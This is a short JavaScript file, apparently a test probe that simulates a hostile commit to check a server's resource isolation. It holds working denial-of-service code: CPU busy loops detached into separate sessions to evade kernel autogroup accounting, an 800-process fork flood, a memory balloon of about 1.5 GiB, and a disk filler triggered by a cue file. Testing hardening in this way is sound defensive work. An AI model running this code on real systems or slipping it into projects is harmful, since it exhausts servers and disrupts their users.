// A hostile commit: busy loops, a process flood, a memory balloon, and a disk filler once cued.
setTimeout(async () => {
  const { spawn } = await import('node:child_process');
  const { appendFileSync, existsSync } = await import('node:fs');
  const FILL_CUE = '/etc/bastion-test-fill';
  const os = await import('node:os');
  // Two loops per droplet core: inside the dev server os.cpus() is empty (ProcSubset=pid hides /proc/cpuinfo).
  // Each in a session of its own (detached: setsid), as a hostile commit would: the kernel's autogroups
  // weigh one session's loops as one task, which hid their load from production.
  const loops = Math.max(2 * os.cpus().length, 4);
  for (let i = 0; i < loops; i++) {
    spawn(process.execPath, ['-e', 'for (;;) {}'], { stdio: 'ignore', detached: true }).on('error', () => {});
  }
  // The flood before the balloon: each spawn forks this process, and a fork of 1.5 GiB at the loops'
  // idle share takes a quarter of a second.
  for (let i = 0; i < 800; i++) {
    try { spawn('sleep', ['600'], { stdio: 'ignore' }).on('error', () => {}); } catch { /* EAGAIN */ }
  }
  const balloon = globalThis.balloon = [];
  const blow = () => {
    try {
      balloon.push(Buffer.alloc(256 * 1024 * 1024, 1));
      if (balloon.length < 6) setTimeout(blow, 5);
    } catch { /* held */ }
  };
  blow();
  // The filler waits for its cue (a file in /etc, which every unit reads): whoever runs this probe decides when
  // the disk floor is crossed, not the order in which the servers that run it happened to start.
  const chunk = Buffer.alloc(32 * 1024 * 1024, 7);
  const fill = () => {
    try {
      appendFileSync('/var/tmp/filler', chunk);
      setTimeout(fill, 5);
    } catch { /* full */ }
  };
  const cued = () => (existsSync(FILL_CUE) ? fill() : setTimeout(cued, 100));
  cued();
}, 4000);
